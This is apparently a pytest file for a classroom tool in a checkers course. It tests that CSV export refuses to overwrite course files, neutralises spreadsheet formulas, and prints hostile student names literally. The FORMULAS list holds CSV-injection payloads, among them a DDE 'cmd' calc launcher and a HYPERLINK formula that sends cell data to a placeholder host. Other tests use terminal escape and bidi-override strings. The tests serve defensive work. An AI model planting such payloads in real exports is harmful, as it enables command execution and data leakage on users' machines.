"""``turma`` writes data, never code, and never over the course's files (issue 44, items 3 and 4).

The teacher's typo ``turma --csv PASTA/bia.json`` wrote the CSV over bia's progress file (exit 0,
no warning); names and keys from hand-edited files became cells a spreadsheet runs (``=cmd|…``,
``+1+1``, ``=HYPERLINK(…)``); a name with a terminal escape code drove the teacher's terminal."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timedelta, timezone

import pytest

from damas.course.classroom.turma import run_turma
from damas.course.kit.progress import Progress
from repo_paths import PUZZLES

BRASILIA = timezone(timedelta(hours=-3))
DAY0 = datetime(2026, 3, 2, 15, 0, tzinfo=BRASILIA)

FORMULAS = ["=cmd|' /C calc'!A0", "+1+1", '=HYPERLINK("http://x.example/?"&A1,"clique")', "@SUM(1+1)",
            "-2+3", "\t=1+1", "\r=1+1"]


def hand_edited(folder, name, key="problemas/abc", stars_key="tomada/a"):
    data = {"formato": "damas-progresso", "versao": 2, "aluno": name, "estrelas": {stars_key: 2},
            "problemas": {},
            "treino": {"tentativas": [{"id": "r1", "problema": key, "resultado": "desistiu",
                                       "quando": DAY0.isoformat()}]}}
    path = folder / f"aluno{abs(hash(name)) % 10 ** 6}.json"
    path.write_text(json.dumps(data), encoding="utf-8")        # escaped: a lone surrogate too
    return path


@pytest.fixture
def no_plots(monkeypatch):
    monkeypatch.setattr("damas.course.classroom.turma.class_plot", lambda header, rows, path: None)
    monkeypatch.setattr("damas.course.classroom.class_training.training_plot", lambda rows, path: None)


@pytest.mark.parametrize("typo", ["bia.json", "bia.pdn", "bia.ipynb", "turma.png"])
def test_a_csv_named_like_a_course_file_is_refused_and_the_file_untouched(tmp_path, capsys, no_plots, typo):
    bia = Progress("bia", folder=tmp_path)
    bia.record_attempt("problemas/abc", "desistiu", DAY0)
    target = tmp_path / typo
    if not target.exists():
        target.write_bytes(b"do curso")
    before = target.read_bytes()
    status = run_turma(str(tmp_path), csv=str(target))
    _, err = capsys.readouterr()
    assert status == 2 and ".csv" in err
    assert target.read_bytes() == before
    assert not list(tmp_path.glob("*-problemas*"))


def test_a_csv_without_extension_gets_one(tmp_path, capsys, no_plots):
    Progress("bia", folder=tmp_path).record_attempt("problemas/abc", "desistiu", DAY0)
    assert run_turma(str(tmp_path), csv=str(tmp_path / "turma"), problemas=str(PUZZLES)) == 0
    assert (tmp_path / "turma.csv").is_file() and (tmp_path / "turma-problemas.csv").is_file()


def test_no_cell_of_the_csv_starts_a_formula(tmp_path, capsys, no_plots):
    for i, formula in enumerate(FORMULAS):
        hand_edited(tmp_path, formula, key=formula, stars_key=f"tomada/{i}")
    assert run_turma(str(tmp_path), csv=str(tmp_path / "turma.csv"), problemas=str(PUZZLES)) == 0
    cells = []
    for name in ("turma.csv", "turma-problemas.csv"):
        rows = list(csv.reader(io.StringIO((tmp_path / name).read_bytes().decode("utf-8-sig"), newline="")))
        cells += [c for row in rows[1:] for c in row]
    assert cells
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    names = {c[1:] for c in cells if c.startswith("'")}
    assert set(FORMULAS) <= names                # shown as the text it was, after the '


@pytest.mark.parametrize("name", ["ana\x1b[2J\x1b[31m", "ana\nbia", "\u202eana", "ana\x07", "ana\ud800",
                                  "José", "Jose\u0301"])
def test_a_hostile_name_is_printed_literally(tmp_path, capsys, no_plots, name):
    hand_edited(tmp_path, name)
    assert run_turma(str(tmp_path), problemas=str(PUZZLES)) == 0
    out, err = capsys.readouterr()
    for ch in "\x1b\u202e\x07\ud800":
        assert ch not in out + err
    assert "ana\nbia" not in out
    (out + err).encode("utf-8")                # a terminal can print all of it
    lines = [line for line in out.splitlines() if line.startswith(("aluno", "-"))]
    assert lines
